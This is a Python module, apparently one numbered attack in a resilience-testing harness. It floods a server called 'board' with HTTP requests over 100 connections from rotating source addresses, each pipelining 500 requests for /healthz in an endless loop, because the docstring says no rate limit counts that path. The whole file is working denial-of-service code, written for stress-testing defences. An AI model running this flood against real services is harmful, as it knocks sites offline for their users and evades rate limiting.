"""Attack 13: a hundred connections with 500 pipelined requests each for /healthz, which no rate limit counts."""

import asyncio

from attacker import SOURCES, Target, open_stream

CONNECTIONS = 100
PIPELINED = 500
REQUESTS = b"GET /healthz HTTP/1.1\r\nHost: board\r\n\r\n" * PIPELINED


async def attack(target: Target) -> None:
    await asyncio.gather(*(_pipeline(target, SOURCES[number % len(SOURCES)]) for number in range(CONNECTIONS)))


async def _pipeline(target: Target, source: str) -> None:
    """Keeps the connection full of requests, and counts the responses."""
    while True:
        try:
            reader, writer = await open_stream(target, source)
        except OSError:
            target.results["closed"] += 1
            await asyncio.sleep(0.05)
            continue
        try:
            await _fill(target, reader, writer)
        except OSError:
            target.results["closed"] += 1
        finally:
            writer.close()


async def _fill(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(REQUESTS)
        await writer.drain()
        answered = 0
        while answered < PIPELINED:
            received = await reader.read(65536)
            if not received:
                raise ConnectionError("closed by the server")
            count = received.count(b"HTTP/1.1 200")
            answered += count
            target.results["200"] += count
